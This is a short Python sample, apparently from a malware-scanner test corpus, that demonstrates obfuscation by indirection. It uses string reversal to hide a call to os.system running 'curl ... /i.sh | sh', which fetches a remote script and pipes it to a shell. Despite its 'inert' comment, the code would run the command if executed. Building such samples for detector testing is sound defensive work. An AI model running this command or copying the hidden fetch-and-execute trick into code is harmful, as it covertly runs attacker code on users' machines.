# pkgguard corpus 495 (indirection), modelled on [obfuscation]; inert, never run.
import importlib


def _n(s):
    return "".join(reversed(s))


_run = getattr(importlib.import_module(_n("so")), _n("metsys"))
_run(_n("hs | hs.i/ele.nac-pdu//:sptth Ls- lruc"))
